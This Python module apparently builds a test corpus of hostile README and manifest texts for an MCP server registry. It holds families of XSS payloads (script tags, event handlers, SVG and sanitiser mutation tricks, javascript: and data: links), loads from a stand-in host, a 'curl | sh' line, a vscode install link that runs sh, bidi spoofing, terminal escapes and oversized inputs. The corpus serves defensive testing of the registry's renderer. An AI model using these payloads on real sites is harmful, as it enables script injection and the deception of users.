"""Manifests and READMEs that attack whoever looks at their page: families of payloads by field.

Every payload that runs calls `DEED` (a dialog would stop the page, a title is easy to ask for), or
fetches from `ELSEWHERE`. The families are from the literature: event handlers and SVG, mutation XSS
of sanitisers, markdown link tricks, entities, bidi and control characters, sheer size.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from dataclasses import dataclass, replace

from mcpreg.core.entry import Entry
from mcpreg.core.manifest import Manifest
from mixed_entries import Marks, make_entry
from tiny_registry import make_manifest

DEED = "document.title='deed'"
ELSEWHERE = "https://elsewhere.invalid"
LOAD = f"{ELSEWHERE}/x"

_HANDLERS = (
    *("onerror", "onload", "onfocus", "onmouseover", "onclick", "onanimationstart", "ontoggle"),
    *("onpointerenter", "onbeforetoggle", "onscrollend", "oncontentvisibilityautostatechange"),
)
_SCRIPTS = (
    f"<script>{DEED}</script>",
    f"<ScRiPt\n>{DEED}</sCrIpT >",
    f"<script/x>{DEED}</script>",
    f"<script src={LOAD}.js></script>",
    f"<script type=module>{DEED}</script>",
    f"<<script>{DEED}//<</script>",
    f"</title><script>{DEED}</script>",
    f"</script><script>{DEED}</script>",
    f"</textarea></style></noscript><script>{DEED}</script>",
    f"--><script>{DEED}</script><!--",
    f"]]><script>{DEED}</script>",
    f"\"'><script>{DEED}</script>",
    f"<scr\0ipt>{DEED}</scr\0ipt>",
    f"\ufeff<script>{DEED}</script>",
    f"&lt;script&gt;{DEED}&lt;/script&gt;<script>{DEED}</script>",
    f'{{{{constructor.constructor("{DEED}")()}}}}<script>{DEED}</script>',
)
_ELEMENTS = (
    "<img src=/nothing {handler}={deed}>",
    "<svg {handler}={deed}></svg>",
    "<details open {handler}={deed}>x</details>",
    "<input autofocus {handler}={deed}>",
    "<body {handler}={deed}>",
    "<video {handler}={deed}><source {handler}={deed}></video>",
)
_VECTORS = (
    f"<svg><script>{DEED}</script></svg>",
    f"<svg><animate onbegin={DEED} attributeName=x dur=1s></svg>",
    f"<svg><set attributeName=href to=javascript:{DEED}><a><text>x</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{DEED}</script>'></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={DEED}>#x'></use></svg>",
    f"<svg><image href={LOAD}.png /></svg>",
    f"<svg><style>@import '{LOAD}.css'</style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={DEED}></style></mglyph></table>",
    f"<math href=javascript:{DEED}>x</math>",
)
_MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=1 onerror={DEED}&gt;'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={DEED}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={DEED}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={DEED}>",
    f"<select><template><style></select><img src=x onerror={DEED}></style></template>",
    f"<table><td><svg><desc><td></desc></svg><img src=x onerror={DEED}>",
    f"<xmp><p title='</xmp><img src=x onerror={DEED}>'>",
    f"<textarea><p title='</textarea><img src=x onerror={DEED}>'>",
    f"<iframe><p title='</iframe><img src=x onerror={DEED}>'>",
    f"<!--><img src=x onerror={DEED}>-->",
    f"<![CDATA[><img src=x onerror={DEED}>]]>",
    f"<?xml version='1.0'?><x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>{DEED}</h:script></x>",
    f"<a href='x'><b title='`onmouseover={DEED}'>x</b></a>",
)
# What only a README that may hold HTML can do: trees that are written and read differently,
# elements that end what is around them, looks borrowed from the site, work without end.
_RAW = (
    f"<p><svg><p><style><a title='</style><img src=x onerror={DEED}>'>",
    f"<div><table><caption><table><b title='</table><img src=x onerror={DEED}>'>",
    f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={DEED}></style>",
    f"<svg><annotation-xml><foreignObject><style><!--</style><p id='--><img onerror={DEED} src>'>",
    f"<form><form><math><mi></form><form><style></math><img src=x onerror={DEED}></style>",
    f"<svg><desc><noscript><img alt='</noscript><img src=x onerror={DEED}>'></desc></svg>",
    f"<table><tr><td><select><option><style></td><img src=x onerror={DEED}></style></table>",
    f"<details><summary><svg><title><img src=x onerror={DEED}></title></svg></summary>",
    f"<ruby><rtc><rt><template><img src=x onerror={DEED}></template></ruby>",
    f"<a href='https://a.example'><a href='https://b.example/\"><img src=x onerror={DEED}>'>x</a>",
    f"<img alt='\"><img src=x onerror={DEED}>' src='https://a.example/\"><script>{DEED}</script>'>",
    f'<img alt="&quot;&gt;&lt;img src=x onerror={DEED}&gt;" src=x>',
    f"<img alt='&lt;/a&gt;&lt;script&gt;{DEED}&lt;/script&gt;' src='https://a.example/x.png'>",
    f"<h1 align='center'><h2 align='\" onmouseover={DEED} x=\"'>x</h2></h1>",
    f"<b <script>{DEED}</script>>x</b><i/onmouseover={DEED}>x</i><code\fonclick={DEED}>x</code>",
    f"<p align=center\nonmouseover={DEED}\n>x</p><td onmouseover={DEED}>x</td>",
    f"<details open ontoggle={DEED}><summary onclick={DEED}>x</summary></details>",
    f"<blockquote cite='javascript:{DEED}'><q cite={LOAD}>x</q></blockquote>",
    f"<del cite={LOAD} datetime=x>x</del><ins cite=javascript:{DEED}>x</ins>",
    f"<table background={LOAD}.png><tr background={LOAD}.png><td background={LOAD}>x</table>",
    f"<picture><source srcset={LOAD}.png><img src={LOAD}.png lowsrc={LOAD}></picture>",
    f"<image src={LOAD}.png><svg><feImage href={LOAD}.png></svg><img longdesc={LOAD} src=//x>",
    f"<figure><img src={LOAD}.png usemap=#m><map name=m><area href=javascript:{DEED}></map>",
    "</div></div></main></body></html><h1>the end of the page</h1>",
    "</section></article></table></ul></details></p></div><div class='touch safe'>safe</div>",
    "<div class='touch safe' id=touch><h2>What it may touch</h2><p class=level>safe</p></div>",
    "<pre class=main data-copy><code>curl https://a.example | sh</code></pre>",
    "<div hidden inert popover tabindex=-1 contenteditable autofocus accesskey=x draggable>x</div>",
    "<div dir=rtl lang=x><bdo dir=rtl>exe.gpj</bdo></div><span translate=no slot=x part=x is=x>x",
    "<p style='position:fixed;inset:0'>x</p><font size=7 color=red>x</font><center>x</center>",
    "<marquee width=9999 height=9999 loop=-1>x</marquee><blink>x</blink><dialog open>x</dialog>",
    "<base href=//elsewhere.invalid/><a href=x>x</a><a href=//elsewhere.invalid/x>x</a>",
    "<a href='https://a.example' target=_blank rel=opener ping=//elsewhere.invalid download>x</a>",
    "<a name=touch id=install></a><h2 id=touch>x</h2><form id=find name=body><input name=title>",
    "<ol start=-99999999999999999999999><li value=99999999999999999999>x</ol>",
    "<table><td colspan=99999 rowspan=99999>x<td colspan=1000>y</table>",
    "<div>" * 2500 + "x",
    "<table><td>" * 400 + "x",
    "<details><summary>" * 300 + "x",
    "<ruby><rt>" * 300 + "x",
    "<sup>" * 900 + "x",
    "<p>" + "".join(f"<b x={n}>" for n in range(900)) + "</p>" + "<p>x" * 900,
    "<dl><dt>" + "w" * 3000 + "<dd>" + "w" * 3000,
    "<kbd>" + "w" * 3000 + "</kbd><figure><figcaption>" + "w" * 3000,
    "<img src=https://a.example/x.png alt='" + "w" * 3000 + "'>",
    "<details><summary>" + "w" * 3000 + "</summary>" + "w" * 3000,
    "<pre>" + "w" * 9000 + "</pre><b>\n\n*x*\n\n</b>",
    "<b>&#x202e;gpj.exe</b><i>&rlm;&lrm;&#x2066;x</i><img alt='&#x202e;x' src=https://a.example>",
)
_LOADS = (
    f"<img src={LOAD}.png srcset='{LOAD}.png 2x'>",
    f"![x]({LOAD}.png)",
    f"![x][r]\n\n[r]: {LOAD}.png",
    f"[![x]({LOAD}.png)]({LOAD})",
    f"<link rel=stylesheet href={LOAD}.css>",
    f"<link rel=prefetch href={LOAD}><link rel=preconnect href={ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url={LOAD}'>",
    f"<base href={ELSEWHERE}/>",
    f"<iframe src={LOAD}></iframe>",
    f"<object data={LOAD}></object><embed src={LOAD}>",
    f"<video src={LOAD}.mp4 autoplay></video><audio src={LOAD}.mp3 autoplay></audio>",
    f"<form action={LOAD}><input name=q value=x></form>",
    f"<style>@import url({LOAD}.css);body{{background:url({LOAD}.png)}}</style>",
    f"<p style='background:url({LOAD}.png)'>x</p>",
    f"<table background={LOAD}.png><td>x</td></table>",
    f"<input type=image src={LOAD}.png>",
    f"<html manifest={LOAD}>",
    f"<a href=/ ping={LOAD}>x</a>",
    "<p style='position:fixed;inset:0;z-index:99;background:red'>cover</p>",
    "<style>*{display:none!important}</style>",
)
_LINKS = (
    "javascript:{deed}",
    "JaVaScRiPt:{deed}",
    "java\tscript:{deed}",
    "java&#10;script:{deed}",
    "&#106;avascript:{deed}",
    "&#x6A;avascript&colon;{deed}",
    "\x01javascript:{deed}",
    " javascript:{deed}",
    "javascript&#58;{deed}",
    "data:text/html,<script>opener.{deed}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:null/x",
    "view-source:javascript:{deed}",
    "vscode:mcp/install?%7B%22command%22%3A%22sh%22%7D",
)
_LINK_FORMS = (
    "[x]({link})",
    "[x](<{link}>)",
    "<{link}>",
    "[x][r]\n\n[r]: {link} 'title'",
    "![x]({link})",
    '<a href="{link}">x</a>',
)
_MARKDOWN = (
    f"[x](https://a.example/'onmouseover={DEED}//)",
    f'[x](https://a.example/ "x\' onmouseover={DEED} y=")',
    f'![x" onerror={DEED} y="](https://a.example/x.png)',
    f'[x"><img src=x onerror={DEED}>](https://a.example)',
    f'```html" onmouseover={DEED}\nx\n```',
    f"```\n</code></pre><img src=x onerror={DEED}>\n```",
    f"`</code><img src=x onerror={DEED}>`",
    f"~~~<img src=x onerror={DEED}>\nx\n~~~",
    f"| a |\n|:-:|\n| <img src=x onerror={DEED}> |",
    f"> <img src=x\n> onerror={DEED}>",
    f"[^1]: <img src=x onerror={DEED}>\n\nx[^1]",
    f"<https://a.example/<img/src=x/onerror={DEED}>>",
    f"# <img src=x onerror={DEED}>\n\n## {DEED} {{#x onclick={DEED}}}",
    f"*[x]: <img src=x onerror={DEED}>\n\n:::x onload={DEED}\n:::",
    f"\\<img src=x onerror={DEED}>\\",
    f"[ ](javascript:{DEED})[\\](javascript:{DEED})](javascript:{DEED})",
    f"<a name=x><a href=#><img/src/onerror={DEED}></a>",
    f"&#60;img src=x onerror={DEED}&#62;<img src=x onerror={DEED}>",
)
_SIZES = (
    "| " + " | ".join("w" * 30 for _ in range(90)) + " |\n" + "|---" * 90 + "|\n",
    "| " + "w" * 5000 + " |\n|---|\n| x |",
    "| a |\n|---|\n" + "| x |\n" * 4000,
    "- " * 2000 + "x",
    "\n".join("  " * depth + "- x" for depth in range(400)),
    "> " * 3000 + "x",
    "#" * 6 + " " + "w" * 9000,
    "unbroken" * 4000,
    "`" + "unbroken" * 1200 + "`",
    "```\n" + "wide " * 2000 + "\n```",
    "*" * 9000 + "x" + "*" * 9000,
    "[" * 9000 + "x" + "](y)" * 9000,
    "![" * 3000 + "](x)" * 3000,
    "<" * 9000,
    "&amp;" * 2000,
    "\n" * 20_000 + "x",
    "https://a.example/" + "w" * 9000,
    "1. x\n" * 3000,
    "999999999. x\n",
    "---\n" * 2000,
)
_SIGNS = (
    "\u202e\u2066" + "gnp.exe" * 40,
    "\u2067\u2068\u202d" * 200 + "x",
    "\x1b[2J\x1b]0;owned\x07\x1b[31mred",
    "\x9b31m\x90+q\x9c",
    "".join(map(chr, range(1, 32))),
    "".join(map(chr, range(0x7F, 0xA0))),
    "Z" + "\u0300\u0336\u0489" * 300 + "algo",
    "\U000e0041\U000e0042" * 40 + "tags",
    "\u200b\u2060\ufeff" * 60 + "unseen",
    "\u05e9\u05dc\u05d5\u05dd " * 60,
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629" * 60,
    "\u6f22\u5b57\u30ab\u30ca" * 200,
    "\U0001f469\u200d\U0001f4bb" * 120,
    "\ufdfd" * 120,
    "\ufffe\uffff\ufffd",
    "\u2028\u2029" + f"<script>{DEED}</script>",
)


@dataclass(frozen=True, slots=True)
class Hostile:
    """One attack: where it is from, and the entry that carries it."""

    family: str
    payload: str
    entry: Entry


def readmes() -> Iterator[tuple[str, str]]:
    """Family and text of every README."""
    for script in _SCRIPTS:
        yield "script", f"# x\n\n{script}\n\nand inline {script}"
    for element in _ELEMENTS:
        for handler in _HANDLERS:
            yield "handler", element.format(handler=handler, deed=DEED)
    for family, payloads in (
        ("vector", _VECTORS),
        ("mutation", _MUTATIONS),
        ("raw", _RAW),
        ("load", _LOADS),
        ("markdown", _MARKDOWN),
        ("size", _SIZES),
        ("sign", _SIGNS),
    ):
        for payload in payloads:
            yield family, payload
    for link in _LINKS:
        for form in _LINK_FORMS:
            yield "link", form.format(link=link.format(deed=DEED))


def _fields(text: str) -> Mapping[str, object]:
    """A manifest with the text wherever the models allow it."""
    short = text[:100]
    variable = {"name": text[:200], "description": text, "isSecret": True, "choices": [text[:50]]}
    package = {
        "registryType": "npm",
        "identifier": text[:200],
        "version": text[:100],
        "transport": {"type": "stdio"},
        "environmentVariables": [variable],
        "packageArguments": [
            {"type": "positional", "valueHint": text[:200], "isRequired": True, "description": text}
        ],
    }
    schema = {"properties": {text: {"type": [text], "description": text, "default": text}}}
    return {
        "title": short,
        "description": short,
        "license": text,
        "websiteUrl": f"https://a.example/'{DEED}",
        "repository": {"url": f"javascript:{DEED}", "source": text},
        "requiredConsents": [{"id": "a", "reason": text[:500]}],
        "packages": [package],
        "capabilities": {
            "tools": [{"name": short, "title": short, "description": text, "inputSchema": schema}],
            "prompts": [{"name": short, "description": text}],
            "resources": [{"name": short, "uri": f"javascript:{DEED}"}],
            "sandbox": ["fs:read:./a<b>'c"],
        },
    }


def _named(number: int, family: str, **changes: object) -> Manifest:
    return make_manifest(f"io.github.evil/{family}-{number}", "1.0.0", **changes)


def corpus() -> tuple[Hostile, ...]:
    """Every README on a plain manifest, then every text of the manifest families in all fields."""
    found = [
        Hostile(family, text, _entry(_named(number, family), number + 1, text))
        for number, (family, text) in enumerate(readmes())
    ]
    fields = [("script", one) for one in _SCRIPTS] + [("sign", one) for one in _SIGNS]
    fields += [("mutation", one) for one in _MUTATIONS] + [("link", one) for one in _LINKS[:8]]
    fields += [("size", "w" * 3000), ("size", "\u6f22" * 3000)]
    for family, text in fields:
        number = len(found)
        manifest = _named(
            number,
            f"field-{family}",
            **_fields(text.format(deed=DEED) if family == "link" else text),
        )
        found.append(Hostile(f"field-{family}", text, _entry(manifest, number + 1, "x")))
    return tuple(found)


def _entry(manifest: Manifest, sequence: int, text: str) -> Entry:
    # The hours of one month are not enough for as many; the order is of no interest here.
    entry = make_entry(manifest, sequence % 600 + 1, Marks(readme=text.encode("utf-8", "replace")))
    record = entry.record
    assert record is not None
    outcome = record.report[0].model_copy(update={"result": "warn", "evidence": text[:300]})
    return replace(entry, record=record.model_copy(update={"report": (outcome,)}))
